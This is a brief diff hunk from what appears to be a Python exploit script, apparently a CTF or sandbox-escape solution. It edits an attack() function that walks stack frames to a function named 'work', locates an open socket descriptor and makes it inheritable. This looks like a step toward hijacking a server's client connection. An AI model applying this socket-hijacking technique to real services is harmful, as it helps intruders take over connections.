@@ -21,7 +21,7 @@ time.sleep(60)
 
 def attack():
     frame = sys._getframe()
-    while frame.f_code.co_name != "serve":
+    while frame.f_code.co_name != "work":
         frame = frame.f_back
     channel = next(number for number in range(3, 64) if is_socket(number))
     os.set_inheritable(channel, True)
